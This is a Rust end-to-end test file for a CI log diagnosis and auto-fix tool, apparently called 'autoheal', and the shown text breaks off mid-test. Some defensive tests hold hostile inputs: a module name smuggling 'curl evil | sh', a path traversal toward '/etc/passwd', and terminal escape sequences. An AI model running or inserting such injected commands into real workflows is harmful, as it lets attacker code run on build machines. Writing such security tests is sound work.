//! End-to-end tests of `autoheal diagnose` and `autoheal fix`.

use crate::support;

use std::io::Write;
use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;
use support::autoheal;

const WORKFLOW: &str = "name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5  # python\n        with:\n          python-version: '3.12'\n      - run: pip install pytest   # deps\n      - run: python -m pytest -q\n";

fn raw_log() -> String {
    let lines = [
        "##[group]Run actions/checkout@v4",
        "##[endgroup]",
        "##[group]Run pip install pytest",
        "pip install pytest",
        "##[endgroup]",
        "Successfully installed pytest-8.2.0",
        "##[group]Run python -m pytest -q",
        "python -m pytest -q",
        "##[endgroup]",
        "ImportError while importing test module '/home/runner/work/app/app/tests/test_io.py'.",
        "tests/test_io.py:1: in <module>",
        "    import yaml",
        "E   ModuleNotFoundError: No module named 'yaml'",
        "##[error]Process completed with exit code 2.",
    ];
    stamped(&lines)
}

fn repo() -> tempfile::TempDir {
    support::repo(&[(".github/workflows/ci.yml", WORKFLOW), ("job.log", &raw_log())])
}

#[test]
fn diagnose_maps_the_failure_onto_the_failing_step_and_attaches_a_fix() {
    let dir = repo();
    let f = &diagnose_json(dir.path());
    assert_eq!(f["category"], "missing_dependency");
    assert_eq!(f["subject"], "PyYAML");
    assert_eq!(f["fixable"], true);
    assert_eq!(f["evidence"][0]["line"], 13);
    assert_eq!(f["span"]["path"], ".github/workflows/ci.yml");
    assert_eq!(f["span"]["start"]["line"], 13, "the `python -m pytest` step");
    let edit = &f["fixes"][0]["edits"][0];
    assert_eq!(edit["new_text"], " PyYAML");
    assert_eq!(edit["range"]["start"]["line"], 12);
}

#[test]
fn diagnose_save_writes_the_failure_store() {
    let dir = repo();
    let out = autoheal(
        dir.path(),
        &[
            "diagnose",
            "job.log",
            "--workflow",
            ".github/workflows/ci.yml",
            "--save",
            "--run-id",
            "123456",
        ],
    );
    assert_eq!(out.status.code(), Some(0));
    let files: Vec<_> = std::fs::read_dir(dir.path().join(".autoheal/failures"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(files.len(), 1);
    let v: Value = serde_json::from_str(&std::fs::read_to_string(&files[0]).unwrap()).unwrap();
    assert_eq!(v["run_id"], 123456);
    // RFC 3339 in UTC, as docs/failure-store.md says.
    let date = v["date"].as_str().unwrap();
    let shape: String = date.chars().map(|c| if c.is_ascii_digit() { 'd' } else { c }).collect();
    assert_eq!(shape, "dddd-dd-ddTdd:dd:ddZ", "{date}");
    assert_eq!(v["workflow_path"], ".github/workflows/ci.yml");
    assert_eq!(v["failures"][0]["category"], "missing_dependency");
}

/// What `diagnose --save` writes is what the language server reads: the
/// saved failure, mapped onto the unchanged workflow, carries no saved fix
/// (a run file is untrusted and can be stale), and the fix made again from
/// it for the text is the one `diagnose --format json` shows, at the level
/// it verified.
#[test]
fn the_language_server_makes_again_the_fix_diagnose_save_wrote() {
    use autoheal_engine::{LineIndex, fix, yaml};
    use autoheal_lsp::failure_store;

    let dir = repo();
    let args = [
        "diagnose",
        "job.log",
        "--workflow",
        ".github/workflows/ci.yml",
        "--save",
        "--run-id",
        "7",
    ];
    let out = autoheal(dir.path(), &args);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let (runs, errors) = failure_store::load(dir.path());
    assert!(errors.is_empty(), "{errors:?}");
    let run = failure_store::latest_for(&runs, ".github/workflows/ci.yml").expect("the saved run");
    assert_eq!(run.failures[0].fixes.len(), 1, "diagnose saved its fix");
    let mapped = failure_store::map_run(
        run,
        WORKFLOW,
        &LineIndex::new(WORKFLOW),
        &yaml::parse(WORKFLOW.as_bytes()),
    );
    assert_eq!(mapped.len(), 1, "{mapped:?}");
    assert!(
        mapped[0].fixes.is_empty(),
        "a saved fix is never offered: {:?}",
        mapped[0].fixes
    );
    let input = mapped[0].input.as_ref().expect("what the fix is made again from");
    let made = autoheal_fixes::fixes_for(
        input,
        ".github/workflows/ci.yml",
        WORKFLOW,
        &autoheal_engine::repo::NoRepo,
    );
    assert_eq!(made.fixes.len(), 1, "{made:?}");
    let edits: Vec<_> = made.fixes[0].edits.iter().collect();
    let fixed = fix::apply_edits(".github/workflows/ci.yml", WORKFLOW, &edits).expect("applies");
    assert!(
        fixed.contains("      - run: pip install pytest PyYAML   # deps\n"),
        "{fixed}"
    );
    let shown = &diagnose_json(dir.path())["fixes"][0];
    assert_eq!(made.fixes[0].title, shown["title"].as_str().unwrap_or_default());
    assert_eq!(shown["applicability"], made.fixes[0].applicability.as_str());
}

/// `gh run view --log-failed` output: job and step come from its columns, and
/// the failure maps onto that step of the workflow.
#[test]
fn diagnose_reads_gh_run_view_log_failed_output() {
    let dir = repo();
    let gh: String = raw_log()
        .lines()
        .map(|l| format!("test\tRun python -m pytest -q\t{l}\n"))
        .collect();
    std::fs::write(dir.path().join("failed.txt"), gh).unwrap();
    let out = autoheal(
        dir.path(),
        &[
            "diagnose",
            "failed.txt",
            "--workflow",
            ".github/workflows/ci.yml",
            "--format",
            "json",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let f = &v["failures"][0];
    assert_eq!(
        (f["category"].as_str(), f["job"].as_str()),
        (Some("missing_dependency"), Some("test"))
    );
    assert_eq!(f["step"]["name"], "Run python -m pytest -q");
    assert_eq!(f["span"]["start"]["line"], 13, "the `python -m pytest` step");
}

#[test]
fn diagnose_without_a_recognized_failure_and_with_bad_input() {
    let dir = repo();
    std::fs::write(dir.path().join("ok.log"), b"all good\n\x00 binary \xff\n").unwrap();
    let out = autoheal(dir.path(), &["diagnose", "ok.log"]);
    // Exit 1, like `fix` with nothing fixable: the log shows no failure.
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("No failure recognized"));
    let found = autoheal(dir.path(), &["diagnose", "job.log"]);
    assert_eq!(found.status.code(), Some(0), "a recognized failure exits 0");
    let missing = autoheal(dir.path(), &["diagnose", "nope.log"]);
    assert_eq!(missing.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("cannot read nope.log"));
}

#[test]
fn fix_prints_a_diff_then_writes_it_keeping_comments() {
    let dir = repo();
    let out = autoheal(dir.path(), &["fix", "--log", "job.log"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let diff = String::from_utf8_lossy(&out.stdout);
    assert!(
        diff.contains("-      - run: pip install pytest   # deps\n+      - run: pip install pytest PyYAML   # deps\n"),
        "{diff}"
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("it is the repository's only workflow"));
    assert_eq!(
        std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap(),
        WORKFLOW,
        "no write without --write"
    );
    let out = autoheal(dir.path(), &["fix", "--log", "job.log", "--write"]);
    assert_eq!(out.status.code(), Some(0));
    let fixed = std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap();
    assert_eq!(
        fixed,
        WORKFLOW.replace("pip install pytest   # deps", "pip install pytest PyYAML   # deps")
    );
}

#[test]
fn fix_works_on_a_run_logs_zip() {
    let dir = repo();
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default();
    zip.start_file("0_test.txt", opts).unwrap();
    zip.write_all(raw_log().as_bytes()).unwrap();
    zip.start_file("test/4_python -m pytest -q.txt", opts).unwrap();
    zip.write_all(raw_log().as_bytes()).unwrap();
    let bytes = zip.finish().unwrap().into_inner();
    std::fs::write(dir.path().join("logs.zip"), bytes).unwrap();
    let out = autoheal(
        dir.path(),
        &["fix", "--log", "logs.zip", "--workflow", ".github/workflows/ci.yml"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("+      - run: pip install pytest PyYAML   # deps"));
}

#[test]
fn fix_refuses_failures_a_human_must_handle() {
    let dir = repo();
    let log = "##[group]Run python -m pytest -q\n##[endgroup]\nFAILED tests/test_math.py::test_add - assert 3 == 4\n1 failed, 10 passed in 0.31s\n##[error]Process completed with exit code 1.\n";
    std::fs::write(dir.path().join("fail.log"), log).unwrap();
    let out = autoheal(
        dir.path(),
        &["fix", "--log", "fail.log", "--workflow", ".github/workflows/ci.yml"],
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("no fix"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap(),
        WORKFLOW
    );
}

#[test]
fn injected_module_names_never_reach_a_fix() {
    let dir = repo();
    let log = raw_log().replace("No module named 'yaml'", "No module named 'x; curl evil | sh'");
    std::fs::write(dir.path().join("evil.log"), log).unwrap();
    let out = autoheal(
        dir.path(),
        &["fix", "--log", "evil.log", "--workflow", ".github/workflows/ci.yml"],
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(!String::from_utf8_lossy(&out.stdout).contains("curl"));
}

/// Runs autoheal with `input` on stdin.
fn autoheal_stdin(dir: &Path, args: &[&str], input: &[u8]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_autoheal"))
        .args(args)
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let input = input.to_vec();
    let writer = std::thread::spawn(move || stdin.write_all(&input));
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap().unwrap();
    out
}

#[test]
fn diagnose_and_fix_read_the_log_from_stdin_text_or_zip() {
    let dir = repo();
    let from_file = autoheal(dir.path(), &["diagnose", "job.log", "--format", "json"]);
    let from_stdin = autoheal_stdin(dir.path(), &["diagnose", "-", "--format", "json"], raw_log().as_bytes());
    assert_eq!(
        from_stdin.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&from_stdin.stderr)
    );
    assert_eq!(from_stdin.stdout, from_file.stdout);

    let out = autoheal_stdin(dir.path(), &["fix", "--log", "-"], raw_log().as_bytes());
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("+      - run: pip install pytest PyYAML   # deps"));

    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file("0_test.txt", zip::write::SimpleFileOptions::default())
        .unwrap();
    zip.write_all(raw_log().as_bytes()).unwrap();
    let bytes = zip.finish().unwrap().into_inner();
    let out = autoheal_stdin(dir.path(), &["diagnose", "-", "--format", "json"], &bytes);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["failures"][0]["category"], "missing_dependency");

    let twice = autoheal(dir.path(), &["diagnose", "-", "-"]);
    assert_eq!(twice.status.code(), Some(2));
}

/// A workflow with a YAML error on line 7 (a plain `run:` value with `: `).
const BROKEN: &str = "name: release\non: [push]\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo version: 1.2\n";

#[test]
fn diagnose_and_fix_find_the_workflow_an_invalid_workflow_message_names() {
    let dir = repo();
    std::fs::write(dir.path().join(".github/workflows/release.yml"), BROKEN).unwrap();
    let log =
        "Invalid workflow file: .github/workflows/release.yml#L7\nYou have an error in your yaml syntax on line 7\n";
    std::fs::write(dir.path().join("invalid.log"), log).unwrap();
    let out = autoheal(dir.path(), &["fix", "--log", "invalid.log"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("the log names .github/workflows/release.yml (line 7)"),
        "{stderr}"
    );
    let diff = String::from_utf8_lossy(&out.stdout);
    assert!(diff.contains("+      - run: 'echo version: 1.2'"), "{diff}");

    let out = autoheal_stdin(dir.path(), &["diagnose", "-", "--format", "json"], log.as_bytes());
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["failures"][0]["category"], "yaml_syntax");
    assert_eq!(v["failures"][0]["fixes"].as_array().map(Vec::len), Some(1), "{v}");

    // A path outside the repository is not followed.
    let outside = "Invalid workflow file: ../../etc/passwd.yml#L1\nYou have an error in your yaml syntax on line 1\n";
    std::fs::write(dir.path().join("outside.log"), outside).unwrap();
    let out = autoheal(dir.path(), &["fix", "--log", "outside.log"]);
    assert_ne!(out.status.code(), Some(0));
}

#[test]
fn fix_finds_the_workflow_from_the_job_name_of_a_zip_on_stdin() {
    let dir = repo();
    std::fs::write(
        dir.path().join(".github/workflows/lint.yml"),
        "on: push\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ruff check .\n",
    )
    .unwrap();
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file("0_test.txt", zip::write::SimpleFileOptions::default())
        .unwrap();
    zip.write_all(raw_log().as_bytes()).unwrap();
    let bytes = zip.finish().unwrap().into_inner();
    let out = autoheal_stdin(dir.path(), &["fix", "--log", "-"], &bytes);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("only workflow that defines job `test`"), "{stderr}");
    assert!(String::from_utf8_lossy(&out.stdout).contains("+      - run: pip install pytest PyYAML   # deps"));
}

/// Check-run annotations and the job's log both say the job hit its time
/// limit: one failure, one fix.
#[test]
fn a_timeout_in_the_annotations_and_the_log_is_listed_once() {
    let dir = repo();
    // The tests printed progress until the limit: a slow job, not a hang
    // (one silent for its whole limit gets no larger one).
    let log = "2024-05-02T10:15:05.1Z ##[group]Run python -m pytest -q\n2024-05-02T10:15:05.1Z ##[endgroup]\n2024-05-02T10:24:58.0Z ........................................ [ 80%]\n2024-05-02T10:25:06.0Z ##[error]The job running on runner GitHub Actions 7 has exceeded the maximum execution time of 10 minutes.\n2024-05-02T10:25:06.1Z ##[error]The operation was canceled.\n";
    std::fs::write(dir.path().join("timeout.log"), log).unwrap();
    let annotations = r#"[{"path":".github","start_line":1,"end_line":1,"annotation_level":"failure","title":"","message":"The job running on runner GitHub Actions 7 has exceeded the maximum execution time of 10 minutes."}]"#;
    std::fs::write(dir.path().join("annotations.json"), annotations).unwrap();
    let args = [
        "diagnose",
        "timeout.log",
        "--annotations",
        "annotations.json",
        "--workflow",
        ".github/workflows/ci.yml",
    ];
    let out = autoheal(dir.path(), &args);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert_eq!(text.matches("timeout (10)").count(), 1, "{text}");
    assert_eq!(text.matches("fix: Raise `timeout-minutes`").count(), 1, "{text}");
    assert!(!text.contains("2. "), "{text}");
}

/// A workflow outside any repository is named by its absolute path; the
/// diff header does not double the slash after `a`/`b`.
#[test]
fn the_diff_of_a_file_named_by_absolute_path_has_one_slash() {
    let outside = tempfile::tempdir().unwrap();
    let workflow = outside.path().join("ci.yml");
    std::fs::write(&workflow, WORKFLOW).unwrap();
    std::fs::write(outside.path().join("job.log"), raw_log()).unwrap();
    let out = autoheal(
        outside.path(),
        &["fix", "--log", "job.log", "--workflow", workflow.to_str().unwrap()],
    );
    let diff = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let expected = format!("--- a{}\n", workflow.display());
    assert!(diff.starts_with(&expected), "{diff}");
    assert!(!diff.contains("a//") && !diff.contains("b//"), "{diff}");
}

/// What a log says reaches the terminal escaped: an escape sequence in a
/// failure message cannot clear the screen or forge output. The logs crate
/// removes ESC sequences where it reads lines (colour codes); the controls
/// that remain (a C1 CSI, a bell) are shown as symbols.
#[test]
fn escape_sequences_from_a_log_are_shown_not_obeyed() {
    let dir = repo();
    let log = raw_log().replace(
        "No module named 'yaml'",
        "No module named 'yaml\u{1b}[2J\u{1b}]8;;http://x\u{7}\u{9b}2J\u{7}'",
    );
    std::fs::write(dir.path().join("esc.log"), log).unwrap();
    let out = autoheal(dir.path(), &["diagnose", "esc.log"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{9b}'),
        "{text:?}"
    );
    assert!(text.contains("yaml\u{fffd}2J\u{2407}'"), "{text}");
}

// Small variants of common failures get the fix their cause needs, or none
// (issue 12): an npm registry limit is never treated as Docker Hub's, GHCR
// is named as itself, `tomllib` is never "installed", `distutils` on 3.12
// comes from setuptools, and a moved requirements file is found through the
// CLI's repository listing while a really missing one only gets the
// fallback, which `fix` never applies.

const NODE: &str = "name: node\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n      - name: Install\n        run: npm ci\n      - run: npm test\n";

const IMAGE: &str = "name: image\non: [push]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Pull base\n        run: docker pull ghcr.io/acme/base:1.2\n      - run: docker build .\n";

const PYTHON: &str = "name: py\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: 'PY'\n      - run: pip install -r requirements-dev.txt\n      - run: python -m pytest -q\n";

/// A repository with `workflow` at `.github/workflows/ci.yml` and `log` at
/// `job.log`.
fn repo_with(workflow: &str, log: &str) -> tempfile::TempDir {
    let dir = repo();
    std::fs::write(dir.path().join(".github/workflows/ci.yml"), workflow).unwrap();
    std::fs::write(dir.path().join("job.log"), log).unwrap();
    dir
}

/// `diagnose --format json` with the workflow: the first failure.
fn diagnose_json(dir: &Path) -> Value {
    let out = autoheal(
        dir,
        &[
            "diagnose",
            "job.log",
            "--workflow",
            ".github/workflows/ci.yml",
            "--format",
            "json",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    v["failures"][0].clone()
}

/// `fix --log job.log --workflow .github/workflows/ci.yml`: the diff on
/// stdout, what was done or why not on stderr.
fn fix_with_workflow(dir: &Path) -> Output {
    autoheal(
        dir,
        &["fix", "--log", "job.log", "--workflow", ".github/workflows/ci.yml"],
    )
}

fn titles(failure: &Value) -> Vec<String> {
    failure["fixes"]
        .as_array()
        .map(|fs| {
            fs.iter()
                .filter_map(|f| f["title"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

/// A step's log: the runner's group header, then `lines`.
fn step_log(command: &str, lines: &[&str]) -> String {
    let mut log = format!("##[group]Run {command}\n{command}\n##[endgroup]\n");
    for l in lines {
        log.push_str(l);
        log.push('\n');
    }
    log.push_str("##[error]Process completed with exit code 1.\n");
    log
}

#[test]
fn an_npm_429_is_retried_as_the_npm_registry_in_both_npm_formats_never_as_docker_hub() {
    let npm9 = step_log(
        "npm ci",
        &[
            "npm ERR! code E429",
            "npm ERR! 429 Too Many Requests - GET https://registry.npmjs.org/lodash",
        ],
    );
    let npm10 = step_log(
        "npm ci",
        &[
            "npm error code E429",
            "npm error 429 Too Many Requests - GET https://registry.npmjs.org/@types%2fnode",
        ],
    );
    for log in [npm9, npm10] {
        let dir = repo_with(NODE, &log);
        let f = diagnose_json(dir.path());
        assert_eq!(f["category"], "rate_limit", "{f}");
        assert_eq!(f["subject"], "npm registry", "{f}");
        assert_eq!(
            titles(&f),
            ["Retry `npm ci` in step \"Install\" (npm registry rate limit)"]
        );
        let out = fix_with_workflow(dir.path());
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        let (diff, said) = (
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr),
        );
        assert!(
            diff.contains("+            if npm ci; then break; else autoheal_status=$?; fi\n"),
            "{diff}"
        );
        assert!(
            diff.contains("-        run: npm ci\n"),
            "only the failing step changes: {diff}"
        );
        assert!(!diff.contains("npm test;"), "the test step is not retried: {diff}");
        for text in [&diff, &said] {
            assert!(!text.contains("Docker"), "never Docker Hub: {text}");
            assert!(!text.contains("login"), "no registry login for npm: {text}");
        }
    }
}

#[test]
fn a_ghcr_toomanyrequests_is_named_ghcr_and_logs_in_with_the_job_token() {
    let log = step_log(
        "docker pull ghcr.io/acme/base:1.2",
        &[
            "Error response from daemon: Head \"https://ghcr.io/v2/acme/base/manifests/1.2\": toomanyrequests: retry-after: 1.2ms, allowed: 44000/minute",
        ],
    );
    let dir = repo_with(IMAGE, &log);
    let f = diagnose_json(dir.path());
    assert_eq!(f["category"], "rate_limit");
    assert_eq!(f["subject"], "GitHub Container Registry");
    let t = titles(&f);
    assert_eq!(t.len(), 1, "{t:?}");
    assert!(
        t[0].contains("Log in to ghcr.io") && t[0].contains("(GitHub Container Registry rate limit)"),
        "{t:?}"
    );
    assert!(!f.to_string().contains("Docker Hub"), "{f}");
}

#[test]
fn tomllib_is_never_installed_and_distutils_on_3_12_comes_from_setuptools() {
    let conftest = |module: &str| {
        step_log(
            "python -m pytest -q",
            &[
                "ImportError while loading conftest '/home/runner/work/app/app/tests/conftest.py'.",
                "tests/conftest.py:3: in <module>",
                &format!("    import {module}"),
                &format!("E   ModuleNotFoundError: No module named '{module}'"),
            ],
        )
    };
    // The job pins 3.10 and the project declares nothing older: the job's
    // Python is raised, nothing is installed.
    let workflow = PYTHON.replace("PY", "3.10");
    let dir = repo_with(&workflow, &conftest("tomllib"));
    let f = diagnose_json(dir.path());
    assert_eq!(
        (f["category"].as_str(), f["subject"].as_str(), f["fixable"].as_bool()),
        (Some("missing_dependency"), Some("tomllib"), Some(true)),
        "{f}"
    );
    assert_eq!(titles(&f), ["Set up Python 3.11 instead of 3.10 in job `test`"]);
    let out = autoheal(dir.path(), &["fix", "--log", "job.log", "--write"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(
        std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap(),
        workflow.replace("python-version: '3.10'", "python-version: '3.11'")
    );
    // From the log alone: not fixable, and never `tomli`.
    let out = autoheal(dir.path(), &["diagnose", "job.log", "--format", "json"]);
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["failures"][0]["fixable"], false, "{v}");
    assert!(v["failures"][0]["message"].as_str().unwrap().contains("3.11"), "{v}");

    // The project supports 3.8: the code needs a fallback, not a newer CI
    // Python. A matrix leg is never raised. Either way no fix, and why.
    let dir = repo_with(&workflow, &conftest("tomllib"));
    std::fs::write(
        dir.path().join("pyproject.toml"),
        "[project]\nname = \"app\"\nrequires-python = \">=3.8\"\n",
    )
    .unwrap();
    let out = fix_with_workflow(dir.path());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("declares support for Python 3.8"), "{stderr}");
    assert!(
        out.stdout.is_empty() && !stderr.contains("pip install tomli"),
        "{stderr}"
    );
    let matrix = workflow.replace(
        "    runs-on: ubuntu-latest\n",
        "    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        py: ['3.10', '3.12']\n",
    );
    let dir = repo_with(&matrix.replace("'3.10'\n", "${{ matrix.py }}\n"), &conftest("tomllib"));
    let f = diagnose_json(dir.path());
    assert_eq!(f["fixable"], false, "{f}");
    assert!(titles(&f).is_empty(), "{f}");
    assert!(f["message"].as_str().unwrap().contains("expression"), "{f}");

    let dir = repo_with(&PYTHON.replace("PY", "3.12"), &conftest("distutils"));
    std::fs::write(dir.path().join("requirements-dev.txt"), "pytest\n").unwrap();
    let f = diagnose_json(dir.path());
    assert_eq!(
        (f["category"].as_str(), f["subject"].as_str()),
        (Some("missing_dependency"), Some("setuptools"))
    );
    assert_eq!(titles(&f), ["Add `setuptools` to requirements-dev.txt"]);
}

#[test]
fn a_moved_requirements_file_is_found_in_the_repository_and_a_missing_one_is_never_skipped_by_fix() {
    let log = step_log(
        "pip install -r requirements-dev.txt",
        &["ERROR: Could not open requirements file: [Errno 2] No such file or directory: 'requirements-dev.txt'"],
    );
    let workflow = PYTHON.replace("PY", "3.12");
    let dir = repo_with(&workflow, &log);
    std::fs::create_dir(dir.path().join("requirements")).unwrap();
    std::fs::write(dir.path().join("requirements/dev.txt"), "pytest\n").unwrap();
    let f = diagnose_json(dir.path());
    assert_eq!(f["category"], "file_not_found");
    assert_eq!(
        titles(&f),
        [
            "Use `requirements/dev.txt` instead of `requirements-dev.txt` in step \"Run pip install -r requirements-dev.txt\""
        ]
    );
    let out = autoheal(dir.path(), &["fix", "--log", "job.log", "--write"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(
        std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap(),
        workflow.replace("-r requirements-dev.txt", "-r requirements/dev.txt")
    );

    // Nothing like it in the repository: only the fallback, which says what
    // it skips, and `fix` does not apply it.
    let dir = repo_with(&workflow, &log);
    let f = diagnose_json(dir.path());
    let fixes = f["fixes"].as_array().unwrap();
    assert_eq!(fixes.len(), 1, "{f}");
    assert_eq!(fixes[0]["fallback"], true, "{f}");
    // Its level is what keeps every applier off it: display-only, as a
    // guess is, and `diagnose` says which kind it is (before, it said
    // `unsafe`, the level `fix --write` and heal write).
    assert_eq!(fixes[0]["applicability"], "display-only", "{f}");
    let title = fixes[0]["title"].as_str().unwrap();
    assert!(
        title.starts_with("Skip step") && title.contains("when `requirements-dev.txt` is missing"),
        "{title}"
    );
    let out = autoheal(
        dir.path(),
        &["diagnose", "job.log", "--workflow", ".github/workflows/ci.yml"],
    );
    let human = String::from_utf8_lossy(&out.stdout);
    assert!(
        human.contains(&format!("   fix: {title} [display-only, fallback]\n")),
        "{human}"
    );
    let explanation = fixes[0]["explanation"].as_str().unwrap();
    assert!(explanation.contains("is skipped entirely"), "{explanation}");
    let out = autoheal(dir.path(), &["fix", "--log", "job.log", "--write"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("never applied automatically"));
    assert_eq!(
        std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap(),
        workflow
    );
}

/// A missing requirements file whose only namesake is under `examples/`: the
/// rewrite onto it is a guess. `diagnose` lists it with the level
/// `display-only` (JSON and human), and `fix --write` refuses it by that level
/// and says why, leaving the workflow as it was.
#[test]
fn a_display_only_fix_is_listed_by_diagnose_and_never_written_by_fix() {
    let log = step_log(
        "pip install -r requirements-dev.txt",
        &["ERROR: Could not open requirements file: [Errno 2] No such file or directory: 'requirements-dev.txt'"],
    );
    let workflow = PYTHON.replace("PY", "3.12");
    let dir = repo_with(&workflow, &log);
    std::fs::create_dir(dir.path().join("examples")).unwrap();
    std::fs::write(dir.path().join("examples/requirements-dev.txt"), "pytest\n").unwrap();
    let f = diagnose_json(dir.path());
    assert_eq!(f["category"], "file_not_found", "{f}");
    let fixes = f["fixes"].as_array().unwrap();
    assert_eq!(fixes.len(), 1, "{f}");
    assert_eq!(fixes[0]["applicability"], "display-only", "{f}");
    assert_eq!(
        fixes[0]["title"],
        "Use `examples/requirements-dev.txt` instead of `requirements-dev.txt` in step \"Run pip install -r requirements-dev.txt\""
    );
    let out = autoheal(
        dir.path(),
        &["diagnose", "job.log", "--workflow", ".github/workflows/ci.yml"],
    );
    let human = String::from_utf8_lossy(&out.stdout);
    assert!(
        human.contains("   fix: Use `examples/requirements-dev.txt` instead of `requirements-dev.txt` in step \"Run pip install -r requirements-dev.txt\" [display-only]\n"),
        "{human}"
    );
    let out = autoheal(dir.path(), &["fix", "--log", "job.log", "--write"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("only a doubtful fix exists") && stderr.contains("display-only"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join(".github/workflows/ci.yml")).unwrap(),
        workflow
    );
}

/// A log whose lines carry timestamps `minutes` apart from the first, the
/// last one the cancel.
fn canceled_after(minutes: u32) -> String {
    format!(
        "2024-05-02T10:00:01.0Z ##[group]Run python -m pytest -q\n2024-05-02T10:00:01.1Z python -m pytest -q\n\
         2024-05-02T10:00:01.2Z ##[endgroup]\n2024-05-02T10:00:05.0Z tests/test_big.py::test_all\n\
         2024-05-02T10:{minutes:02}:02.0Z ##[error]The operation was canceled.\n"
    )
}

/// Only the workflow knows the job's `timeout-minutes`: a cancel at that
/// limit (from the timestamps) gets a higher limit through `fix
/// --workflow`; a cancel well before it is not a timeout.
#[test]
fn fix_raises_the_limit_a_cancel_reached_and_leaves_an_early_cancel_alone() {
    let dir = repo_with(WORKFLOW, &canceled_after(10));
    let out = fix_with_workflow(dir.path());
    let diff = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        diff.contains("-    timeout-minutes: 10\n+    timeout-minutes: 20\n"),
        "{diff}"
    );

    let dir = repo_with(WORKFLOW, &canceled_after(3));
    let out = fix_with_workflow(dir.path());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(out.stdout.is_empty());
